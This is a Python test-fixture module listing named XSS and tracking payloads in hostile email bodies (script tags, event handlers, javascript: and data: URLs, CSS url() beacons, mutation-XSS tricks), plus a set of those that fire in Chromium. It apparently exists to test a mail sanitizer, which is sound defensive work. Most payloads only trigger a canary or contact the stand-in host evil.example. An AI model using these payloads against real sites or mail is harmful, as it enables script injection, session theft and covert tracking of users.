# ruff: noqa: E501 - one vector per line reads better than wrapped payloads
"""Hostile mail bodies: one XSS or tracking vector each, named so a failure says which.

``HOSTILE_BODIES`` is a list of ``(name, html)``. A payload that manages to run
calls the canary ``top.postMessage('xss:NAME', '*')`` (it works from
cross-origin and sandboxed frames too, where ``top.__xss(...)`` would throw), or
sets ``document.title`` to ``xss:NAME``; a payload that only needs to reach
the network requests ``https://evil.example/NAME`` or
``http://canary.invalid/NAME``. A browser test therefore knows a vector fired
when a message, a title or a request to a host in ``REMOTE_HOSTS`` carries its
name.

``LIVE_IN_CHROMIUM`` names the vectors that do fire in headless Chromium when
rendered unsanitized in a plain same-origin iframe (the harness's negative
control checks this). The others are dead in today's browsers (``vbscript:``,
``expression()``, ``<isindex>``, ...) but stay here for the sanitizer's string
checks and for older engines.
"""

from __future__ import annotations

from urllib.parse import quote

CANARY_PREFIX = "xss:"
EVIL_HOST = "evil.example"
CANARY_HOST = "canary.invalid"
REMOTE_HOSTS = (EVIL_HOST, CANARY_HOST)


def fire(name: str) -> str:
    """JavaScript that reports ``name`` to the outer test page."""
    return f"top.postMessage('{CANARY_PREFIX}{name}','*')"


def evil(name: str) -> str:
    """A remote URL that names the vector."""
    return f"https://{EVIL_HOST}/{name}"


def canary(name: str) -> str:
    """A second remote URL, plain http on a host that never resolves."""
    return f"http://{CANARY_HOST}/{name}"


def _entities(text: str) -> str:
    return "".join(f"&#{ord(c)};" for c in text)


def _svg_doc(name: str) -> str:
    return quote(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{fire(name)}"/>')


def _script_doc(name: str) -> str:
    return quote(f"<script>{fire(name)}</script>")


HOSTILE_BODIES: list[tuple[str, str]] = [
    # -- script elements ----------------------------------------------------------------
    ("script_plain", f"<p>Hello</p><script>{fire('script_plain')}</script>"),
    ("script_upper", f"<SCRIPT>{fire('script_upper')}</SCRIPT>"),
    ("script_mixed_case_space", f"<ScRiPt >{fire('script_mixed_case_space')}</sCrIpT >"),
    ("script_newline_tag", f"<script\n>{fire('script_newline_tag')}</script\n>"),
    ("script_slash_attr", f"<script/xss>{fire('script_slash_attr')}</script>"),
    ("script_double_lt", f"<<script>{fire('script_double_lt')}//<</script>"),
    ("script_null_byte", f"<scr\x00ipt>{fire('script_null_byte')}</scr\x00ipt>"),
    ("script_split_nested", f"<scr<script>ipt>{fire('script_split_nested')}</scr</script>ipt>"),
    ("script_src_remote", f'<script src="{evil("script_src_remote")}"></script>'),
    # -- event handlers -----------------------------------------------------------------
    ("img_onerror", f'<img src="x" onerror="{fire("img_onerror")}">'),
    ("img_onerror_whitespace", f"<img\nsrc=x\tonerror={fire('img_onerror_whitespace')}>"),
    ("img_onerror_title", "<img src=x onerror=\"document.title='xss:img_onerror_title'\">"),
    ("body_onload", f'<body onload="{fire("body_onload")}">text</body>'),
    ("div_onmouseover", f'<div onmouseover="{fire("div_onmouseover")}">hover me</div>'),
    ("input_onfocus_autofocus", f'<input autofocus onfocus="{fire("input_onfocus_autofocus")}">'),
    ("details_ontoggle", f'<details open ontoggle="{fire("details_ontoggle")}">d</details>'),
    ("video_source_onerror", f'<video><source onerror="{fire("video_source_onerror")}"></video>'),
    ("audio_onerror", f'<audio src="x" onerror="{fire("audio_onerror")}"></audio>'),
    ("marquee_onstart", f'<marquee onstart="{fire("marquee_onstart")}">m</marquee>'),
    # -- javascript:, vbscript: and data: URLs ------------------------------------------
    ("a_javascript", f'<a href="javascript:{fire("a_javascript")}">click</a>'),
    ("a_javascript_mixed_case", f'<a href="JaVaScRiPt:{fire("a_javascript_mixed_case")}">c</a>'),
    (
        "a_javascript_entities",
        f'<a href="{_entities("javascript:" + fire("a_javascript_entities"))}">click</a>',
    ),
    ("a_javascript_tab", f'<a href="jav&#x09;ascript:{fire("a_javascript_tab")}">click</a>'),
    ("a_javascript_newline", f'<a href="java\nscript:{fire("a_javascript_newline")}">c</a>'),
    (
        "a_javascript_colon_entity",
        f'<a href="javascript&colon;{fire("a_javascript_colon_entity")}">c</a>',
    ),
    (
        "a_javascript_leading_ctrl",
        f'<a href=" &#14; javascript:{fire("a_javascript_leading_ctrl")}">c</a>',
    ),
    ("a_vbscript", '<a href="vbscript:MsgBox(&quot;xss:a_vbscript&quot;)">click</a>'),
    ("a_data_html", f'<a href="data:text/html,{_script_doc("a_data_html")}">click</a>'),
    (
        "img_data_svg",
        f'<img src="data:image/svg+xml,{_svg_doc("img_data_svg")}">',
    ),
    (
        "img_data_png",
        '<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==">',
    ),
    # -- frames, plugins, forms ---------------------------------------------------------
    ("iframe_javascript", f'<iframe src="javascript:{fire("iframe_javascript")}"></iframe>'),
    ("iframe_data", f'<iframe src="data:text/html,{_script_doc("iframe_data")}"></iframe>'),
    ("iframe_srcdoc", f'<iframe srcdoc="&lt;script&gt;{fire("iframe_srcdoc")}&lt;/script&gt;">'),
    ("iframe_remote", f'<iframe src="{evil("iframe_remote")}"></iframe>'),
    (
        "object_data_html",
        f'<object data="data:text/html,{_script_doc("object_data_html")}"></object>',
    ),
    ("object_remote", f'<object data="{evil("object_remote")}"></object>'),
    ("embed_remote", f'<embed src="{evil("embed_remote")}">'),
    (
        "form_action_remote",
        f'<form action="{evil("form_action_remote")}"><input name="q" value="1"><input type="submit"></form>',
    ),
    (
        "form_action_javascript",
        f'<form action="javascript:{fire("form_action_javascript")}"><button>go</button></form>',
    ),
    (
        "button_formaction",
        f'<form><button formaction="javascript:{fire("button_formaction")}">go</button></form>',
    ),
    ("input_image_remote", f'<input type="image" src="{evil("input_image_remote")}">'),
    # -- document-level tricks ----------------------------------------------------------
    ("base_href_remote", f'<base href="{evil("base_href_remote")}/"><img src="pixel.png">'),
    (
        "base_href_javascript",
        f'<base href="javascript:{fire("base_href_javascript")}//"><a href="/x">c</a>',
    ),
    (
        "meta_refresh_remote",
        f'<meta http-equiv="refresh" content="0;url={evil("meta_refresh_remote")}">',
    ),
    (
        "meta_refresh_javascript",
        f'<meta http-equiv="refresh" content="0;url=javascript:{fire("meta_refresh_javascript")}">',
    ),
    (
        "meta_refresh_data",
        f'<meta http-equiv="refresh" content="0;url=data:text/html,{_script_doc("meta_refresh_data")}">',
    ),
    ("link_stylesheet_remote", f'<link rel="stylesheet" href="{evil("link_stylesheet_remote")}">'),
    (
        "link_preload_remote",
        f'<link rel="preload" as="image" href="{evil("link_preload_remote")}">',
    ),
    # -- CSS ----------------------------------------------------------------------------
    ("style_import", f'<style>@import url("{evil("style_import")}");</style><p>x</p>'),
    (
        "style_element_background",
        f"<style>p{{background:url({evil('style_element_background')})}}</style><p>x</p>",
    ),
    (
        "style_attr_background",
        f'<div style="background:url({evil("style_attr_background")})">x</div>',
    ),
    (
        "style_attr_background_image",
        f"<div style=\"color:red;background-image:url('{evil('style_attr_background_image')}')\">x</div>",
    ),
    (
        "style_attr_escaped",
        f'<div style="b\\61 ckground-image: u\\72 l({evil("style_attr_escaped")})">x</div>',
    ),
    (
        "style_attr_list_style",
        f'<ul style="list-style-image:url({evil("style_attr_list_style")})"><li>x</li></ul>',
    ),
    ("style_attr_content", f'<div style="content:url({evil("style_attr_content")})">x</div>'),
    (
        "style_attr_border_image",
        f'<div style="border:9px solid;border-image:url({evil("style_attr_border_image")}) 9">x</div>',
    ),
    (
        "style_attr_expression",
        f'<div style="width:expression({fire("style_attr_expression")})">x</div>',
    ),
    ("style_attr_behavior", f'<div style="behavior:url({canary("style_attr_behavior")})">x</div>'),
    # -- remote media -------------------------------------------------------------------
    ("img_remote", f'<p>Newsletter</p><img src="{evil("img_remote")}" alt="logo">'),
    ("img_remote_http", f'<img src="{canary("img_remote_http")}" width="1" height="1">'),
    ("img_protocol_relative", f'<img src="//{EVIL_HOST}/img_protocol_relative">'),
    ("img_backslash_relative", f'<img src="/\\{EVIL_HOST}/img_backslash_relative">'),
    ("img_srcset_remote", f'<img srcset="{evil("img_srcset_remote")} 1x" alt="s">'),
    (
        "picture_source_remote",
        f'<picture><source srcset="{evil("picture_source_remote")}"><img alt="p"></picture>',
    ),
    ("video_poster_remote", f'<video poster="{evil("video_poster_remote")}"></video>'),
    ("audio_src_remote", f'<audio src="{evil("audio_src_remote")}"></audio>'),
    (
        "table_background_remote",
        f'<table background="{evil("table_background_remote")}"><tr><td>x</td></tr></table>',
    ),
    (
        "td_background_remote",
        f'<table><tr><td background="{evil("td_background_remote")}">x</td></tr></table>',
    ),
    ("body_background_remote", f'<body background="{evil("body_background_remote")}">x</body>'),
    (
        "svg_image_remote",
        f'<svg width="9" height="9"><image href="{evil("svg_image_remote")}" width="9" height="9"/></svg>',
    ),
    # -- SVG and MathML -----------------------------------------------------------------
    ("svg_onload", f'<svg onload="{fire("svg_onload")}"></svg>'),
    ("svg_script", f"<svg><script>{fire('svg_script')}</script></svg>"),
    (
        "svg_animate_onbegin",
        f'<svg><animate onbegin="{fire("svg_animate_onbegin")}" attributeName="x" dur="1s"/></svg>',
    ),
    (
        "svg_a_xlink_href",
        f'<svg width="50" height="20"><a xlink:href="javascript:{fire("svg_a_xlink_href")}"><text y="15">c</text></a></svg>',
    ),
    (
        "svg_set_href",
        f'<svg width="50" height="20"><a><set attributeName="href" to="javascript:{fire("svg_set_href")}"/><text y="15">c</text></a></svg>',
    ),
    ("math_href", f'<math><mtext href="javascript:{fire("math_href")}">c</mtext></math>'),
    (
        "math_maction",
        f'<math><maction actiontype="statusline" xlink:href="javascript:{fire("math_maction")}">c</maction></math>',
    ),
    (
        "math_mglyph_style_mxss",
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={fire("math_mglyph_style_mxss")}&gt;">',
    ),
    # -- parser differentials (mutation XSS) --------------------------------------------
    (
        "noscript_mxss",
        f'<noscript><p title="</noscript><img src=x onerror={fire("noscript_mxss")}>">',
    ),
    ("xmp_mxss", f'<xmp><p title="</xmp><img src=x onerror={fire("xmp_mxss")}>">'),
    (
        "textarea_mxss",
        f'<textarea><p title="</textarea><img src=x onerror={fire("textarea_mxss")}>">',
    ),
    ("comment_trick", f'<!--<img src="--><img src=x onerror={fire("comment_trick")}//">'),
    ("cdata_trick", f"<![CDATA[<]]><img src=x onerror={fire('cdata_trick')}//>"),
    ("svg_cdata_trick", f"<svg><![CDATA[><img src=x onerror={fire('svg_cdata_trick')}>]]></svg>"),
    ("template_content", f'<template><img src=x onerror="{fire("template_content")}"></template>'),
    ("isindex", f'<isindex type="image" src="1" onerror="{fire("isindex")}">'),
    (
        "frameset_onload",
        f'<frameset onload="{fire("frameset_onload")}"><frame src="javascript:{fire("frameset_onload")}"></frameset>',
    ),
]

# Every one of these fires, or reaches a remote host, in Chromium 156 when rendered with
# no sanitizer, CSP or sandbox (test_xss_sandbox.py::test_harness_catches_live_vectors_unsanitized).
# The rest did nothing there (a_vbscript only made Chromium refuse an external protocol).
LIVE_IN_CHROMIUM = frozenset(
    {
        "script_plain",
        "script_upper",
        "script_mixed_case_space",
        "script_newline_tag",
        "script_slash_attr",
        "script_double_lt",
        "script_src_remote",
        "img_onerror",
        "img_onerror_whitespace",
        "img_onerror_title",
        "body_onload",
        "div_onmouseover",
        "input_onfocus_autofocus",
        "details_ontoggle",
        "video_source_onerror",
        "audio_onerror",
        "a_javascript",
        "a_javascript_mixed_case",
        "a_javascript_entities",
        "a_javascript_tab",
        "a_javascript_newline",
        "a_javascript_colon_entity",
        "a_javascript_leading_ctrl",
        "a_data_html",
        "iframe_javascript",
        "iframe_data",
        "iframe_srcdoc",
        "iframe_remote",
        "object_data_html",
        "object_remote",
        "embed_remote",
        "form_action_remote",
        "form_action_javascript",
        "button_formaction",
        "input_image_remote",
        "base_href_remote",
        "meta_refresh_remote",
        "meta_refresh_data",
        "link_stylesheet_remote",
        "link_preload_remote",
        "style_import",
        "style_element_background",
        "style_attr_background",
        "style_attr_background_image",
        "style_attr_escaped",
        "style_attr_list_style",
        "style_attr_content",
        "style_attr_border_image",
        "img_remote",
        "img_remote_http",
        "img_protocol_relative",
        "img_backslash_relative",
        "img_srcset_remote",
        "picture_source_remote",
        "video_poster_remote",
        "audio_src_remote",
        "table_background_remote",
        "td_background_remote",
        "svg_image_remote",
        "svg_onload",
        "svg_script",
        "svg_animate_onbegin",
        "svg_a_xlink_href",
        "svg_set_href",
        "noscript_mxss",
        "xmp_mxss",
        "textarea_mxss",
        "comment_trick",
        "cdata_trick",
    }
)
